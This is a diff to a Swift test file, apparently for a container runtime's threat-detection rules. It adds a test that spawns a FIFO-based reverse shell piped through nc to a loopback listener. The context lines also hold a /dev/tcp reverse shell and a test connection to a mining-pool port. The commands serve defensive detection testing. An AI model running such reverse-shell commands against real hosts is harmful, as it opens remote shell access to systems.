@@ -19,6 +19,12 @@ struct NetworkTests {
         // busybox ash has no /dev/tcp; the rule is on the command line, which is what bash's one-liner shows.
         Behaviour(rule: "Reverse shell via dev tcp", what: "sh -c 'exec 3<>/dev/tcp/127.0.0.1/4444'",
                   script: "sh -c 'exec 3<>/dev/tcp/127.0.0.1/4444' 2>/dev/null; true", process: "sh", style: .crio),
+        // The reverse shell that needs neither nc -e nor /dev/tcp: an interactive shell fed from a FIFO, its output
+        // piped to nc, nc's output back into the FIFO. The listener hangs up at once; the pipeline then ends.
+        Behaviour(rule: "Interactive shell without a terminal", what: "mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 4444 > f",
+                  script: listener(4444) + "\nrm -f /tmp/f; mkfifo /tmp/f\n(cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f) &\n"
+                      + "sleep 0.5\nkill $! 2>/dev/null; true",
+                  process: "sh", style: .docker),
         Behaviour(rule: "Outbound connection to mining pool port", what: "nc 127.0.0.1 3333 (stratum port, loopback listener)",
                   script: listener(3333) + "\nnc -w 1 127.0.0.1 3333 </dev/null; true", process: "nc",
                   object: "127.0.0.1:3333", style: .podman),
